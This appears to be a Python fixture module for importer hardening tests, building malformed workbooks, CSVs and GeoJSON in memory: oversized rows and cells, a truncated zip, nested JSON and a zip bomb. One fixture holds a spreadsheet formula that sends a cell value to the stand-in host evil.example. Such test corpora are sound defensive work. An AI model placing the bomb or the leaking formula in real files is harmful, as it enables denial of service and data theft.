"""The malformed-file corpus the hardening tests feed to every importer, built in memory and quickly.

Workbooks are written by hand (a few XML parts in a zip) rather than with openpyxl: a sheet with one cell at row
1,048,576 is a few hundred bytes, and 300,000 one-cell rows take a fraction of a second to write this way.
"""

from __future__ import annotations

import io
import json
import random
import string
import zipfile
import zlib
from functools import cache

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 8

# A text far longer than the cap on cell text (10,000 characters) but small and incompressible enough to pass the
# zip checks, so that the cap on cell text itself is what refuses it.
LONG_CELL = "".join(random.Random(19).choices(string.ascii_letters, k=200_000))


def _cell(ref: str, text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{escaped}</t></is></c>'


def xlsx(sheets: dict[str, str], *, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook: sheet name → the XML inside ``<sheetData>`` (rows of cells)."""
    names = list(sheets)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(names) + 1)
    )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
            + "".join(f'<sheet name="{n}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, start=1))
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PKG_REL}">'
            + "".join(
                f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                for i in range(1, len(names) + 1)
            )
            + "</Relationships>"
        ),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        for i, name in enumerate(names, start=1):
            # The declared dimension says A1: readers that trust it would stop there.
            archive.writestr(
                f"xl/worksheets/sheet{i}.xml",
                f'<worksheet xmlns="{MAIN}"><dimension ref="A1"/><sheetData>{sheets[name]}</sheetData></worksheet>',
            )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


HEADER_ROW = '<row r="1">' + _cell("A1", "code") + _cell("B1", "year") + "</row>"


@cache
def far_away_cell() -> bytes:
    """A header and one cell at row 1,048,576 (Excel's last row)."""
    return xlsx({"Profil": HEADER_ROW + '<row r="1048576">' + _cell("A1048576", "x") + "</row>"})


@cache
def many_rows(n: int = 300_000) -> bytes:
    """A header and ``n`` one-cell rows."""
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(2, n + 2))
    return xlsx({"Profil": HEADER_ROW + rows})


@cache
def huge_cell(size: int = 50 * 1024 * 1024) -> bytes:
    """One cell of ``size`` characters (50 MB): it packs about 1000:1."""
    buffer = io.BytesIO(xlsx({"Profil": HEADER_ROW + '<row r="2"><c r="A2" t="inlineStr"><is><t>X</t></is></c></row>'}))
    head = f'<worksheet xmlns="{MAIN}"><sheetData><row r="2"><c r="A2" t="inlineStr"><is><t>'.encode()
    tail = b"</t></is></c></row></sheetData></worksheet>"
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet2.xml", head + b"A" * size + tail)
    return buffer.getvalue()


@cache
def long_cell() -> bytes:
    """One cell of 200,000 random letters: over the cell cap, but no zip limit."""
    return xlsx({"Profil": HEADER_ROW + '<row r="2">' + _cell("B2", LONG_CELL) + "</row>"})


def png_named_xlsx() -> bytes:
    return PNG


@cache
def truncated_zip() -> bytes:
    whole = xlsx(
        {"Profil": HEADER_ROW + "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(2, 99))}
    )
    return whole[: len(whole) // 2]


@cache
def zip_bomb(member: str = "xl/worksheets/sheet1.xml", size: int = 20 * 1024 * 1024) -> bytes:
    """A zip whose ``member`` inflates ``size`` bytes of spaces from about 20 KB (ratio about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}"/>')
        archive.writestr(member, b" " * size)
    return buffer.getvalue()


def formula_xlsx() -> bytes:
    """A cell holding a formula (not a value)."""
    formula = 'HYPERLINK("http://evil.example/?leak="&amp;A2,"klik")'
    return xlsx({"Profil": HEADER_ROW + f'<row r="2"><c r="B2"><f>{formula}</f></c></row>'})


# CSV -----------------------------------------------------------------------------------------------------------


@cache
def csv_many_rows(n: int = 300_000) -> bytes:
    return ("code,year\n" + "".join(f"{r},2024\n" for r in range(n))).encode()


@cache
def csv_huge_cell(size: int = 50 * 1024 * 1024) -> bytes:
    return b"code,year\n33.24.01.2001," + b"A" * size + b"\n"


def csv_long_cell() -> bytes:
    return f"code,name\n33.24,{LONG_CELL}\n".encode()


# GeoJSON -------------------------------------------------------------------------------------------------------


@cache
def deep_json(depth: int = 100_000) -> bytes:
    return b'{"type": "FeatureCollection", "features": ' + b"[" * depth + b"]" * depth + b"}"


def empty_collection() -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": []}).encode()


def unclosed_ring(code: str) -> bytes:
    """One feature whose only ring has three positions and does not return to the first."""
    ring = [[110.1, -7.0], [110.2, -7.0], [110.2, -7.1]]
    feature = {"type": "Feature", "properties": {"kode": code}, "geometry": {"type": "Polygon", "coordinates": [ring]}}
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def zlib_ratio(data: bytes) -> float:
    """How well ``data`` packs (used to check the corpus is what it claims)."""
    return len(data) / len(zlib.compress(data))
